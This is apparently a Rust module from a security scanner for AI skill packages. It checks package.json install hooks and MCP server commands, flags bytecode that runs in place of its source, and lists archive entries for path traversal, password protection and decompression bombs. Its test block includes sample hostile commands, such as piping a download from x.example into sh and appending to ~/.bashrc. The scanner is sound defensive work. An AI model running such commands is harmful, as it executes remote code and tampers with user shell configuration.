//! Non-script artefacts: executables, bytecode and archives (listed without
//! extracting anything to disk, with bounds), and config files that carry
//! commands (`package.json` lifecycle scripts, `.mcp.json` servers).

use super::{Lang, Sink, Src, lifecycle};
use crate::evidence::{Evidence, Op, Origin, Tag};
use crate::skill::{FileKind, SkillFile};
use crate::ssl::vocab::{ActType as A, ResourceScope as R};
use std::io::Read;

pub fn config(f: &SkillFile, sink: &mut Sink) {
    let name = f.rel.rsplit('/').next().unwrap_or(&f.rel);
    if name != "package.json" && name != ".mcp.json" && name != "mcp.json" {
        return;
    }
    let Ok(v) = serde_json::from_str::<serde_json::Value>(&f.text) else {
        return;
    };
    let src = Src::new(&f.rel, &f.text, Origin::Hook);
    let mut cmds: Vec<(String, String)> = Vec::new();
    let table = v.get("scripts").and_then(|s| s.as_object());
    if let Some(scripts) = table {
        for (k, c) in scripts {
            if matches!(
                k.as_str(),
                "preinstall"
                    | "install"
                    | "postinstall"
                    | "prepare"
                    | "prepublish"
                    | "preuninstall"
                    | "postuninstall"
            ) {
                if let Some(c) = c.as_str() {
                    cmds.push((k.clone(), c.to_string()));
                }
            }
        }
    }
    if let Some(servers) = v.get("mcpServers").and_then(|s| s.as_object()) {
        for (k, s) in servers {
            let cmd = s.get("command").and_then(|c| c.as_str()).unwrap_or("");
            let args: Vec<&str> = s
                .get("args")
                .and_then(|a| a.as_array())
                .map(|a| a.iter().filter_map(|x| x.as_str()).collect())
                .unwrap_or_default();
            cmds.push((k.clone(), format!("{cmd} {}", args.join(" "))));
        }
    }
    for (key, cmd) in cmds {
        if only_prints(&cmd) {
            // `"postinstall": "echo 'Installed. Run /link start'"` runs nothing.
            continue;
        }
        let pos = f.text.find(&format!("\"{key}\"")).unwrap_or(0);
        let end = pos + key.len() + 2;
        // `"prepare": "npm run build"` runs the `build` entry: the command
        // judged is the one the package manager ends up running.
        let (run, gave_up) = lifecycle::resolve(&cmd, table);
        if gave_up {
            sink.incomplete.push(format!(
                "{}: the {key} hook's `npm run` chain was not followed to its end",
                f.rel
            ));
        }
        let mut ev = Evidence::new(Op::Exec, A::CallTool, R::Process, cmd.clone())
            .object(format!("{key} command run by the package manager"))
            .instrument(name.to_string());
        if run != cmd {
            ev.object = format!("{key} command run by the package manager (runs `{run}`)");
        }
        let build = lifecycle::builds_only(&run);
        if build {
            ev.tags.insert(Tag::BuildStep);
        }
        sink.push(src.at(ev, pos, end, "json"));
        let mut sub = src.derived(&run, pos, end, Origin::Hook);
        if build {
            sub.ctx.insert(Tag::BuildStep);
        }
        super::extract_code(Lang::Shell, &sub, sink);
    }
}

/// A lifecycle command that only prints a fixed message (`echo`, `printf`,
/// `true`), with no substitution that could run something.
fn only_prints(cmd: &str) -> bool {
    if cmd.contains("$(") || cmd.contains('`') || cmd.contains('>') {
        return false;
    }
    let parts: Vec<&str> = cmd
        .split([';', '&', '|'])
        .map(str::trim)
        .filter(|p| !p.is_empty())
        .collect();
    !parts.is_empty()
        && parts.iter().all(|p| {
            let w = p.split_whitespace().next().unwrap_or("");
            matches!(w, "echo" | "printf" | "true" | ":")
        })
}

fn exe_name(n: &str) -> bool {
    let l = n.to_lowercase();
    [
        ".exe", ".dll", ".scr", ".msi", ".bat", ".cmd", ".ps1", ".vbs", ".js", ".jar", ".app/",
        ".dylib", ".so", ".sh", ".command", ".pkg", ".dmg", ".lnk",
    ]
    .iter()
    .any(|e| l.ends_with(e) || l.contains(".app/"))
}

/// The source a CPython bytecode file caches: `pkg/__pycache__/m.cpython-311.pyc`
/// (or `.opt-1.pyc`) → `pkg/m.py`; a legacy `m.pyc` beside it → `m.py`.
pub fn bytecode_source(rel: &str) -> Option<String> {
    let stem = rel
        .strip_suffix(".pyc")
        .or_else(|| rel.strip_suffix(".pyo"))?;
    let (dir, name) = stem.rsplit_once('/').unwrap_or(("", stem));
    let (dir, module) = match dir.strip_suffix("__pycache__") {
        // `m.cpython-311` / `m.cpython-311.opt-1`: the module is the first part.
        Some(parent) => (parent.trim_end_matches('/'), name.split('.').next()?),
        None => (dir, name),
    };
    if module.is_empty() {
        return None;
    }
    Some(if dir.is_empty() {
        format!("{module}.py")
    } else {
        format!("{dir}/{module}.py")
    })
}

/// PEP 552: a `.pyc` whose flags say "hash-based, unchecked" is run as it
/// is, whatever its source now says.
fn unchecked_hash_pyc(raw: &[u8]) -> bool {
    raw.len() >= 8 && raw[4] & 0b01 == 1 && raw[4] & 0b10 == 0
}

/// `source`: the shipped file a bytecode file caches, when the skill ships
/// it. Such a cache is reviewable through its source, but Python may run the
/// cache instead (a timestamp the copy keeps, an unchecked hash), so it is
/// still reported: high when Python never checks it against the source.
pub fn binary(f: &SkillFile, source: Option<&str>, sink: &mut Sink) {
    let src = Src::new(&f.rel, "", Origin::Script);
    match f.kind {
        FileKind::Binary => {
            let mut ev = Evidence::new(Op::Binary, A::CallTool, R::Process, f.rel.clone())
                .object("bundled executable (not analysable)")
                .instrument("file");
            if let Some(c) = f.claimed {
                ev.tags.insert(Tag::Obfuscated);
                ev.object = format!("binary posing as a {} file", c.as_str());
            }
            sink.push(src.at(ev, 0, 0, "binary"));
        }
        FileKind::Bytecode => {
            let mut ev = Evidence::new(Op::Binary, A::CallTool, R::Process, f.rel.clone())
                .tag(Tag::Obfuscated)
                .object("compiled bytecode (source not shipped)")
                .instrument("file");
            if let Some(s) = source {
                if unchecked_hash_pyc(&f.raw) {
                    ev.object = format!(
                        "bytecode that Python runs unchecked instead of its shipped source {s}"
                    );
                } else {
                    ev.tags.remove(&Tag::Obfuscated);
                    ev.object = format!(
                        "cached bytecode of the shipped source {s} (Python may run the cache instead of the source)"
                    );
                }
            }
            sink.push(src.at(ev, 0, 0, "binary"));
        }
        FileKind::Archive => archive(f, &src, sink),
        _ => {}
    }
}

/// An archive's listing, accumulated entry by entry: every entry is
/// listed (zip central directories and tar headers are read in one linear
/// pass) and every declared size is counted; only the notes kept for the
/// message are capped, with a count of the rest.
#[derive(Default)]
struct Listing {
    entries: u64,
    total: u64,
    tags: std::collections::BTreeSet<Tag>,
    traversal: Vec<String>,
    traversal_more: u64,
}

/// Path-traversal entries named in the message; the rest are counted.
const TRAVERSAL_NOTES: usize = 10;

impl Listing {
    fn add(&mut self, name: &[u8], encrypted: bool, size: u64) {
        let name = String::from_utf8_lossy(name);
        self.entries += 1;
        self.total = self.total.saturating_add(size);
        if encrypted {
            self.tags.insert(Tag::PasswordArchive);
        }
        if name.starts_with('/')
            || name.split(['/', '\\']).any(|c| c == "..")
            || name.contains(":\\")
        {
            self.tags.insert(Tag::PathTraversal);
            if self.traversal.len() < TRAVERSAL_NOTES {
                self.traversal.push(format!(
                    "path traversal entry {}",
                    crate::text::escape_display(&name)
                ));
            } else {
                self.traversal_more += 1;
            }
        }
        if exe_name(&name) {
            self.tags.insert(Tag::ExeDownload);
        }
    }
}

/// Bytes of gzip output read (and tar headers listed) per archive.
const GZIP_LIMIT: u64 = 64 * 1024 * 1024;

fn archive(f: &SkillFile, src: &Src, sink: &mut Sink) {
    let mut l = Listing::default();
    if f.raw.starts_with(b"PK") {
        zip_entries(&f.raw, &mut l);
    } else if f.raw.starts_with(&[0x1f, 0x8b]) {
        let gz = flate2::read::GzDecoder::new(&f.raw[..]);
        let read = tar_stream(gz.take(GZIP_LIMIT + 1), &mut l);
        if read > GZIP_LIMIT {
            let ev = Evidence::new(Op::Archive, A::Read, R::LocalFs, f.rel.clone())
                .tag(Tag::Unbounded)
                .object("compressed data expands beyond 64 MiB (decompression bomb)")
                .instrument("gzip");
            sink.push(src.at(ev, 0, 0, "archive"));
            sink.incomplete.push(format!(
                "{}: the compressed data expands beyond {GZIP_LIMIT} bytes; entries past that point were not listed",
                crate::text::escape_display(&f.rel)
            ));
        }
    } else if f.raw.len() > 262 && &f.raw[257..262] == b"ustar" {
        tar_stream(&f.raw[..], &mut l);
    }
    let mut notes = std::mem::take(&mut l.traversal);
    if l.traversal_more > 0 {
        notes.push(format!("{} more path traversal entries", l.traversal_more));
    }
    if l.total > 1024 * 1024 * 1024 || (f.size > 0 && l.total / f.size.max(1) > 1000) {
        l.tags.insert(Tag::Unbounded);
        notes.push(format!(
            "declares {} uncompressed bytes from {} compressed",
            l.total, f.size
        ));
    }
    let desc = if notes.is_empty() {
        format!("archive with {} entries", l.entries)
    } else {
        notes.join("; ")
    };
    let ev = Evidence::new(Op::Archive, A::Read, R::LocalFs, f.rel.clone())
        .tags(l.tags)
        .object(desc)
        .instrument("archive");
    sink.push(src.at(ev, 0, 0, "archive"));
}

fn u16le(b: &[u8], i: usize) -> usize {
    b.get(i..i + 2)
        .map(|x| u16::from_le_bytes([x[0], x[1]]) as usize)
        .unwrap_or(0)
}

fn u32le(b: &[u8], i: usize) -> u64 {
    b.get(i..i + 4)
        .map(|x| u32::from_le_bytes([x[0], x[1], x[2], x[3]]) as u64)
        .unwrap_or(0)
}

/// Lists every zip central-directory entry (falls back to local headers).
fn zip_entries(b: &[u8], l: &mut Listing) {
    let mut i = 0;
    let before = l.entries;
    // Central directory entries: "PK\x01\x02".
    while i + 46 <= b.len() {
        if &b[i..i + 4] == b"PK\x01\x02" {
            let nlen = u16le(b, i + 28);
            let name = b.get(i + 46..i + 46 + nlen).unwrap_or(&[]);
            l.add(name, u16le(b, i + 8) & 1 == 1, u32le(b, i + 24));
            i += 46 + nlen + u16le(b, i + 30) + u16le(b, i + 32);
        } else {
            i += 1;
        }
    }
    if l.entries > before {
        return;
    }
    let mut i = 0;
    while i + 30 <= b.len() {
        if &b[i..i + 4] == b"PK\x03\x04" {
            let nlen = u16le(b, i + 26);
            let name = b.get(i + 30..i + 30 + nlen).unwrap_or(&[]);
            l.add(name, u16le(b, i + 6) & 1 == 1, u32le(b, i + 22));
            i += 30 + nlen;
        } else {
            i += 1;
        }
    }
}

/// Lists every tar header of a stream, skipping entry data without keeping
/// it. Returns the bytes read.
fn tar_stream(mut r: impl Read, l: &mut Listing) -> u64 {
    let mut read = 0u64;
    let mut h = [0u8; 512];
    loop {
        if r.read_exact(&mut h).is_err() {
            return read;
        }
        read += 512;
        if h.iter().all(|&x| x == 0) {
            // The end-of-archive marker; count what follows as read.
            return read + std::io::copy(&mut r, &mut std::io::sink()).unwrap_or(0);
        }
        let name_end = h[..100].iter().position(|&c| c == 0).unwrap_or(100);
        let size_s = String::from_utf8_lossy(&h[124..136])
            .trim_matches(|c: char| c == '\0' || c == ' ')
            .to_string();
        let size = u64::from_str_radix(&size_s, 8).unwrap_or(0);
        l.add(&h[..name_end], false, size);
        let skip = size.div_ceil(512).saturating_mul(512);
        let skipped = std::io::copy(&mut (&mut r).take(skip), &mut std::io::sink()).unwrap_or(0);
        read += skipped;
        if skipped < skip {
            return read;
        }
    }
}

#[cfg(test)]
mod print_tests {
    #[test]
    fn lifecycle_commands_that_only_print_run_nothing() {
        for c in [
            "echo '✅ Vinculum installed. Use /link relay start to begin.'",
            "echo 'a' && echo 'b'",
            "printf 'done\\n'",
        ] {
            assert!(super::only_prints(c), "{c}");
        }
        for c in [
            "echo $(curl -s https://x.example/i.sh | sh)",
            "echo ok && node scripts/setup.js",
            "echo `id`",
            "echo x > ~/.bashrc",
            "curl https://x.example | sh",
            "",
        ] {
            assert!(!super::only_prints(c), "{c}");
        }
    }
}
